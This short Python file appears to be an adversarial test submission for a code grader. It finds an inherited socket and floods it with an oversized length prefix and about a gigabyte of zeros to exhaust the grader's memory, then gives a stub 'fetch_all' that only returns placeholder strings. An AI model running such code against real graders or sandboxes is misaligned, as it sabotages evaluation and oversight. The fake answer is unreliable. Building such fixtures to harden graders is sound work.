"""Tries to fill the grader's memory through the channel."""

# %%

import json
import os
import socket
import stat


def channel():
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return socket.socket(fileno=os.dup(number))
        except OSError:
            pass


def send(data):
    channel().sendall(len(data).to_bytes(4, "big") + data)


stream = channel()
stream.sendall((0xFFFFFFF0).to_bytes(4, "big"))
try:
    for _ in range(1000):
        stream.sendall(bytes(1 << 20))
except OSError:
    pass


# %% exercise:fetch_all
async def fetch_all(fetch, names):
    return [f"the {name} page" for name in names]
